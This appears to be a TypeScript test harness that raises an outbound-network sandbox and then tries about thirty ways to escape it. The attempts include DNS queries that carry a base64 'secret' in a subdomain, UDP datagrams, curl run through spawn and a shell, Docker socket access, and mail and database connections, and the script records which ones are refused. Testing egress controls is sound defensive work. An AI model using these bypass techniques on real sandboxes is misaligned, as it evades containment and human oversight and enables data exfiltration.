/**
 * Behind the wall, tries every way out that it can think of, and prints what came of each, a line of JSON at the end.
 * `escape.ts PORT` also tries this port of the machine, where somebody listens who should hear nothing.
 */
import { exec, execFile, execFileSync, fork, spawn, spawnSync } from 'node:child_process'
import dgram from 'node:dgram'
import dns from 'node:dns'
import http from 'node:http'
import http2 from 'node:http2'
import type { AddressInfo } from 'node:net'
import net from 'node:net'
import tls from 'node:tls'
import { Worker } from 'node:worker_threads'
import { ImapFlow } from 'imapflow'
import nodemailer from 'nodemailer'
import pg from 'pg'
import { isPublic } from '../src/egress/network.ts'
import { post } from '../src/egress/post.ts'
import { refusals } from '../src/egress/refusal.ts'
import { openWay, raiseWall, withPass } from '../src/egress/wall.ts'

const port = Number(process.argv[2] ?? 9)
/** An address of a network that is in nobody's hands (RFC 5737): a packet to it would leave this machine. */
const ABROAD = '198.51.100.7'

// A declared place that sends whoever asks on to another one.
const declared = http.createServer((_, answer) => answer.writeHead(302, { location: `http://127.0.0.1:${port}/caught` }).end())
await new Promise<void>((resolve) => declared.listen(0, '127.0.0.1', resolve))
const here = (declared.address() as AddressInfo).port
openWay({ host: '127.0.0.1', port: here, may: () => true }, { host: 'localhost', port: 8443, may: isPublic })
openWay({ host: 'api.declared.example', port: 443, may: isPublic })
raiseWall()

/** Waits for an emitter's first word. */
const heard = (emitter: NodeJS.EventEmitter, good: string): Promise<void> =>
  new Promise((resolve, reject) => emitter.once(good, () => resolve()).once('error', reject))
const opened = (socket: WebSocket): Promise<void> =>
  new Promise((resolve, reject) => {
    socket.addEventListener('open', () => resolve())
    socket.addEventListener('error', (event) => reject((event as unknown as { error: Error }).error))
  })
const called = (start: (done: (fault: unknown) => void) => unknown): Promise<void> =>
  new Promise((resolve, reject) => start((fault) => (fault ? reject(fault as Error) : resolve())))

const tricks: Readonly<Record<string, () => unknown>> = {
  'fetch of an undeclared name': () => fetch('http://undeclared.example/'),
  'fetch of an undeclared address': () => fetch(`http://${ABROAD}/`),
  'fetch of a port of this machine': () => fetch(`http://127.0.0.1:${port}/`),
  'fetch that is sent on': () => fetch(`http://127.0.0.1:${here}/`),
  'a web socket': () => opened(new WebSocket(`ws://127.0.0.1:${port}/`)),
  'a declared name with a private address': () => heard(http.get('http://localhost:8443/'), 'response'),
  'a declared name, looked up by a liar': () => {
    const lookup = ((_: string, __: object, told: (fault: null, found: object[]) => void) =>
      told(null, [{ address: '127.0.0.1', family: 4 }])) as unknown as net.LookupFunction
    return heard(net.connect({ host: 'localhost', port: 8443, lookup }), 'connect')
  },
  'a program’s address in a private network': async () => {
    const outcome = await post({ environment: 'production' }, { name: 'A program' }, { url: 'https://localhost/', headers: {} })
    if ('failed' in outcome && outcome.failed === 'private address') throw new Error(outcome.failed)
    return outcome
  },
  'a raw socket': () => heard(new net.Socket().connect(port, '127.0.0.1'), 'connect'),
  'a raw socket abroad': () => heard(net.connect(443, ABROAD), 'connect'),
  'a socket of the system': () => heard(net.connect('/var/run/docker.sock'), 'connect'),
  TLS: () => heard(tls.connect({ host: ABROAD, port: 443 }), 'secureConnect'),
  'HTTP/2': () =>
    heard(
      http2
        .connect(`http://127.0.0.1:${port}`)
        .on('error', () => {})
        .request(),
      'response',
    ),
  'another mail relay': () =>
    nodemailer.createTransport(`smtp://${ABROAD}:25`).sendMail({ from: 'a@b.example', to: 'c@d.example', text: 'x' }),
  'another mailbox': () => {
    const box = new ImapFlow({ host: '127.0.0.1', port, secure: false, logger: false, auth: { user: 'a', pass: 'b' } })
    box.on('error', () => {})
    return box.connect()
  },
  'another database': () => new pg.Client({ host: '127.0.0.1', port, user: 'a', database: 'b' }).connect(),
  'a name': () => called((done) => dns.lookup('c2VjcmV0.undeclared.example', done)),
  'a text record': () => dns.promises.resolveTxt('c2VjcmV0.undeclared.example'),
  'a resolver of its own': () => new dns.promises.Resolver().resolve4('c2VjcmV0.undeclared.example'),
  'a resolver that calls back': () => called((done) => new dns.Resolver().resolveMx('c2VjcmV0.undeclared.example', done)),
  'other name servers': () => new dns.promises.Resolver().setServers([ABROAD]),
  'a datagram': () => called((done) => dgram.createSocket('udp4').send('secret', port, '127.0.0.1', done)),
  'a program': () => heard(spawn('curl', [`http://127.0.0.1:${port}/`]), 'spawn'),
  'a shell': () => called((done) => exec(`curl http://127.0.0.1:${port}/`, done)),
  'another program than the one that it may': () => withPass({ program: 'true' }, () => called((done) => execFile('curl', ['-V'], done))),
  'a program at once': () => spawnSync('curl', [`http://127.0.0.1:${port}/`]),
  'a file at once': () => execFileSync('curl', [`http://127.0.0.1:${port}/`]),
  'itself once more': () => heard(fork(new URL('./escape.ts', import.meta.url)), 'spawn'),
  'a thread': () => heard(new Worker('fetch("http://127.0.0.1/")', { eval: true }), 'online'),
  'an inner door of Node': () => (process as unknown as { binding(name: string): unknown }).binding('tcp_wrap'),
}

const outcomes: Record<string, string> = {}
const sum = (): number => [...refusals.values()].reduce((sum, count) => sum + count, 0)
for (const [name, trick] of Object.entries(tricks)) {
  const before = sum()
  // What a library makes of the refusal is its own affair: some hide the reason.
  outcomes[name] = await Promise.resolve()
    .then(trick)
    .then(
      () => 'got out',
      (fault: unknown) => (sum() > before ? 'refused' : `failed: ${String(fault)}`),
    )
}
declared.closeAllConnections()
process.stdout.write(`\n${JSON.stringify(outcomes)}\n`, () => process.exit(0))
